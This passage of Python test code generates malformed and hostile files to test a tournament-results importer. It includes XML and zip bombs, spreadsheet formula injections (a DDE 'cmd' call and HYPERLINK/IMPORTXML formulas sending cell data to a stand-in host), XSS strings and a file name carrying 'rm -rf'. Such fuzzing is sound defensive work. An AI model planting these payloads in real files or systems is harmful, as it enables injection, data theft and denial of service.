        entities.append('<!ENTITY e "%p29;">')
        ref = "&e;"
    doctype = f"<!DOCTYPE {root_name} [\n" + "\n".join(entities) + "\n]>\n"
    if "?>" in text:
        cut = text.index("?>") + 2
        text = text[:cut] + "\n" + doctype + text[cut:]
    else:
        text = doctype + text
    for name in rng.sample(base.names, min(len(base.names), rng.randint(1, 3))):
        text = text.replace(name, ref, 1)
    return base.stem + ".xml", _encode(base, text)


_FORMULAS = ('=HYPERLINK("http://example.invalid/x?"&A1,"Jan Nowak")', "@SUM(1+1)", "+1", "-1",
             "=1+1", "=cmd|' /C calc'!A0", "+48 123 456", "-Kowalski", "=Jan Nowak",
             '=IMPORTXML(CONCAT("http://example.invalid/?",A2),"//a")', "@Kowalski", "\t=1+1",
             "=SUM(A1:A9)*0", "=+-1")


def k_formula_cells(rng: Random) -> Made:
    formula = lambda r, _n: r.choice(_FORMULAS)
    base = _pick(rng, rng.choice(("template", "names", "xlsx", "html_names")))
    if base.ext == ".xlsx" and base.names:
        return base.stem + ".xlsx", _with_names(base, rng, formula)
    if base.ext == ".xlsx":  # an xlsx without names found: formulas into its text cells
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(base.data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and rng.random() < 0.2:
                        cell.value = rng.choice(_FORMULAS)
        return base.stem + ".xlsx", _save_xlsx(book)
    return base.stem + base.ext, _named(base, rng, formula)


_MARKUP = ("<script>alert(1)</script>", '<img src=x onerror="alert(1)">',
           "Jan<script>document.location='//evil'</script> Nowak",
           '"><svg onload=alert(1)>', "<iframe src=javascript:alert(1)>", "</td></tr></table>",
           "<b>Jan Nowak</b>", "{{7*7}} ${7*7}", "Jan Nowak<!--", "]]><x>", "&lt;script&gt;")


def k_markup_names(rng: Random) -> Made:
    base = _names_base(rng)
    raw = (base.is_html or base.is_xml) and rng.random() < 0.5
    value = lambda r, n: r.choice((r.choice(_MARKUP), f"{n} {r.choice(_MARKUP)}"))
    return base.stem + base.ext, _named(base, rng, value, raw_markup=raw)


def _controlled(rng: Random, name: str) -> str:
    name = name or "Jan Nowak"
    bad = rng.choice(("\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f",
                      "\x85", "\x9f", "\ufffd", "\ufffd\ufffd", "\r", "\u202e", "\x1b[31m"))
    at = rng.randrange(len(name) + 1)
    return rng.choice((name[:at] + bad + name[at:], bad + name, name + bad, bad * 3))


def k_control_chars(rng: Random) -> Made:
    base = _names_base(rng)
    return base.stem + base.ext, _named(base, rng, _controlled)


def k_long_name(rng: Random) -> Made:
    base = _names_base(rng)
    size = rng.randint(1_600_000, 1_650_000)
    return base.stem + base.ext, _named(base, rng, lambda r, _n: _huge(r, size), once=True)


_ODD_DATES = ("0001-01-01", "1000-01-01", "1899-12-31", "1850-06-15", "2101-01-01",
              "2200-12-31", "9999-12-31", "1111-11-11", "1900-01-00", "2013-02-30",
              "0000-00-00", "12/31/1899", "31.12.2101", "1.1.1", "2013-13-01", "-2013-01-01")


def k_odd_dates(rng: Random) -> Made:
    base = _pick(rng, rng.choice(("template", "template", "good_text")))
    value = rng.choice(_ODD_DATES)
    if base.is_csv_template:
        return base.stem + ".csv", _set_template(base, rng, "date", lambda r: value, share=0.5)
    assert base.text is not None
    year = rng.choice(("1", "0999", "1234", "1850", "1899", "2101", "2999", "9999", "10000"))
    # every four-digit year 19xx/20xx written in the file moves to the odd year
    text = re.sub(r"(?<!\d)(19|20)\d\d(?!\d)", year, base.text)
    return base.stem + base.ext, _encode(base, text)


def k_huge_boards(rng: Random) -> Made:
    base = _pick(rng, "template")
    value = rng.choice(("99999999999999999999", "99999999999999999999", "2147483648",
                        "9223372036854775808", "1" + "0" * 40, "4294967296"))
    delimiter, header, rows = _template(base)
    i = header.index("boards")
    for row in rows:
        if rng.random() < 0.5 or len(rows) < 3:
            row[i] = value
    # boards must agree within an event: give every row of a touched event the value
    touched = {(r[0], r[1], r[2]) for r in rows if r[i] == value}
    for row in rows:
        if (row[0], row[1], row[2]) in touched:
            row[i] = value
    return base.stem + ".csv", _write_template(delimiter, header, rows)


def k_player_twice(rng: Random) -> Made:
    base = _pick(rng, rng.choice(("template", "template", "html_names", "xml_names")))
    if base.is_csv_template:
        delimiter, header, rows = _template(base)
        p, unit = header.index("player"), header.index("unit")
        by_event: dict[tuple[str, ...], list[list[str]]] = {}
        for row in rows:
            by_event.setdefault(tuple(row[:3]), []).append(row)
        for event_rows in by_event.values():
            units = {r[unit] for r in event_rows}
            if len(units) < 2:
                continue
            a = rng.choice(event_rows)
            others = [r for r in event_rows if r[unit] != a[unit]]
            b = rng.choice(others) if rng.random() < 0.7 else rng.choice(event_rows)
            if b is not a:
                b[p] = a[p]
            if rng.random() < 0.5:
                break
        return base.stem + ".csv", _write_template(delimiter, header, rows)
    assert base.text is not None
    a, b = rng.sample(base.names, 2)
    text = base.text.replace(b, a, rng.choice((1, 1, -1)))
    return base.stem + base.ext, _encode(base, text)


def k_no_events(rng: Random) -> Made:
    how = rng.choice(("template-header", "template-blank-rows", "empty", "html-empty-table",
                      "opengotha-no-games", "usebio-no-participants", "pbn-no-scores", "bom",
                      "xlsx-empty", "ods-empty", "whitespace"))
    if how == "template-header":
        base = _pick(rng, "template")
        _, header, _ = _template(base)
        return "header-only.csv", (",".join(header) + "\r\n").encode()
    if how == "template-blank-rows":
        base = _pick(rng, "template")
        _, header, _ = _template(base)
        return "blank-rows.csv", (",".join(header) + "\r\n" + ",,,,,,,,\r\n" * 5).encode()
    if how == "empty":
        return "empty.csv", b""
    if how == "bom":
        return "bom-only.html", b"\xef\xbb\xbf"
    if how == "whitespace":
        return "blank.txt", b" \r\n\t\r\n" * rng.randint(1, 50)
    if how == "html-empty-table":
        base = _pick(rng, "html_names")
        assert base.text is not None
        spans = _spans(base, base.text)
        text = base.text[: spans[0][0]] + base.text[spans[-1][1]:]
        return base.stem + base.ext, _encode(base, text)
    if how in ("opengotha-no-games", "usebio-no-participants", "pbn-no-scores"):
        base = _pick(rng, "xml_names" if how != "pbn-no-scores" else "good_text")
        assert base.text is not None
        text = base.text
        text = re.sub(r"(?s)<Games\b.*?</Games>|<Game\b[^>]*/>", "", text)
        text = re.sub(r"(?s)<PARTICIPANTS\b.*?</PARTICIPANTS>", "", text)
        text = re.sub(r"(?s)\[(TotalScoreTable|ScoreTable)[^\]]*\].*?(?=\n\[|\Z)", "", text)
        return base.stem + base.ext, _encode(base, text)
    if how == "xlsx-empty":
        import openpyxl

        book = openpyxl.Workbook()
        book.active["A1"] = "Turniej par - 12.03.2013"
        book.active["A3"] = "Miejsce"
        book.active["B3"] = "Para"
        return "empty.xlsx", _save_xlsx(book)
    return "empty.ods", _ods(_ods_row(_ods_cell("Turniej par")) + _ods_row(
        _ods_cell("Miejsce") + _ods_cell("Para") + _ods_cell("Wynik")))


_ODD_NAMES = (
    b"wyniki_\xb3\xf3d\xbc.html", b"\xff\xfe.csv", b"wyniki \xe9t\xe9.csv", b"archive",
    b"rejected", b".hidden.csv", b".csv", b"..results.html", b"results.reason.txt",
    b"wyniki.html.reason.txt", b"with space .csv", b" leading-space.csv", b"trailing-space.csv ",
    b"line\nbreak.csv", b"carriage\rreturn.html", b"back\\slash.csv", b"tab\tname.csv",
    b"quote\"and'apostrophe.csv", b"star*question?.html", b"percent%s%n.csv",
    b"semicolon;rm -rf.csv", b"-dash-first.csv", b"--config.csv", b"CON.csv", b"nul",
    b"\xe2\x80\xaeslx.csv", b"emoji-\xf0\x9f\x83\x8f.html", b"zero\xe2\x80\x8bwidth.csv",
    b"UPPER.CSV", b"no-extension", b"trailing-dot.", b"archive.csv", b"rejected.reason.txt",
)


def _odd_name(rng: Random, ext: str) -> bytes:
    how = rng.choice(("list", "list", "long", "long-ext", "non-utf8", "dots"))
    if how == "long":  # a 250-byte name
        tail = ext.encode()
        return b"w" + bytes(rng.choice(b"abcdefghij0123456789_-")
                            for _ in range(249 - len(tail))) + tail
    if how == "long-ext":  # a 40-character extension
        return b"wyniki." + bytes(rng.choice(b"abcdefghijklmnop") for _ in range(40))
    if how == "non-utf8":
        return b"wyniki_" + bytes(rng.randrange(0x80, 0x100) for _ in range(rng.randint(1, 6))) \
            + ext.encode()
    if how == "dots":
        return rng.choice((b"...", b". .csv", b"a..b" + ext.encode(), b"." + ext.encode()))
    return rng.choice(_ODD_NAMES)


def k_odd_names(rng: Random) -> tuple[bytes, bytes]:
    base = _pick(rng, "good")
    return _odd_name(rng, base.ext), base.data


# --- kinds that drop two files under one name -----------------------------------------------


def k_same_name(rng: Random) -> tuple[str, bytes, bytes]:
    """Two different valid files (the second in a later batch) under one name."""
    first, second = rng.sample(_pools()["good"], 2)
    name = rng.choice(("wyniki.html", "results.csv", "turniej.xlsx", first.path.name,
                       second.path.name, "wyniki"))
    return name, first.data, second.data


def k_damaged_redrop(rng: Random) -> tuple[str, bytes, bytes]:
    """A good file, and later a truncated or rows-deleted copy of it under the same name."""
    base = _pick(rng, rng.choice(("good_text", "good_text", "template")))
    if rng.random() < 0.5:
        damaged = _edit_rows(base, rng, _delete)
    else:
        assert base.text is not None
        cut = rng.randrange(len(base.text) // 3, max(len(base.text) // 3 + 1,
                                                      len(base.text) - 1))
        damaged = _encode(base, base.text[:cut])
    return base.stem + base.ext, base.data, damaged


Single = Callable[[Random], Made]
_SINGLE: dict[str, Single] = {
    "byte_flip": k_byte_flip,
    "truncation": k_truncation,
    "duplicated_rows": k_duplicated_rows,
    "deleted_rows": k_deleted_rows,
    "swapped_columns": k_swapped_columns,
    "odd_encoding": k_odd_encoding,
    "huge_cell": k_huge_cell,
    "bad_numbers": k_bad_numbers,
    "nested_tables": k_nested_tables,
    "nested_bold": k_nested_bold,
    "xlsx_merges": k_xlsx_merges,
    "ods_repeated": k_ods_repeated,
    "zip_bomb": k_zip_bomb,
    "xml_bomb": k_xml_bomb,
    "formula_cells": k_formula_cells,
    "markup_names": k_markup_names,
    "control_chars": k_control_chars,
    "long_name": k_long_name,
    "odd_dates": k_odd_dates,
    "huge_boards": k_huge_boards,
    "player_twice": k_player_twice,
    "no_events": k_no_events,
}
_PAIRS = {"same_name": k_same_name, "damaged_redrop": k_damaged_redrop}

KINDS: tuple[str, ...] = (*_SINGLE, "odd_names", *_PAIRS)
"""Every kind of damage, in the round-robin order of :func:`hostile_files`."""


def hostile_files(count: int, seed: int = 0, *, gap: int = REDROP_GAP,
                  kinds: tuple[str, ...] = KINDS) -> Iterator[tuple[bytes, bytes, str]]:
    """``count`` hostile files as (file name, content, kind), kinds in turn.

    Names are unique within one call, except where a kind means them to repeat (``same_name``,
    ``damaged_redrop``: the second file follows ``gap`` files after the first; the pair is
    started only while both fit in ``count``) and the fixed odd names of ``odd_names``. A
    kind's generator that fails on an unlucky draw is retried with the next draw."""
    pending: deque[tuple[int, bytes, bytes, str]] = deque()
    turn = 0
    for index in range(count):
        if pending and pending[0][0] <= index:
            _, name, data, kind = pending.popleft()
            yield name, data, kind
            continue
        while True:
            kind = kinds[turn % len(kinds)]
            turn += 1
            if kind in _PAIRS and index + gap >= count - len(pending):
                if all(k in _PAIRS for k in kinds):
                    kind = "byte_flip"
                else:
                    continue  # no room for the second drop: the next kind instead
            break
        made = _make(kind, index, seed)
        if kind in _PAIRS:
            name, first, second = made  # type: ignore[misc]
            pending.append((index + gap, name, second, kind))
            yield name, first, kind
        else:
            yield made  # type: ignore[misc]


def _make(kind: str, index: int, seed: int) -> tuple[bytes, bytes, str] | tuple[bytes, bytes,
                                                                                    bytes]:
    for attempt in range(20):
        rng = Random(f"{seed}:{index}:{kind}:{attempt}")
        try:
            if kind == "odd_names":
                name, data = k_odd_names(rng)
                return name, data, kind
            if kind in _PAIRS:
                plain, first, second = _PAIRS[kind](rng)
                return f"{index:05d}-{kind}-{plain}".encode(), first, second
            plain, data = _SINGLE[kind](rng)
            return f"{index:05d}-{kind}-{plain}".encode(), data, kind
        except Exception:  # noqa: BLE001, S112
            continue  # an unlucky draw (a base without what this damage needs): draw again
    raise RuntimeError(f"cannot make a file of kind {kind} (seed {seed}, index {index})")
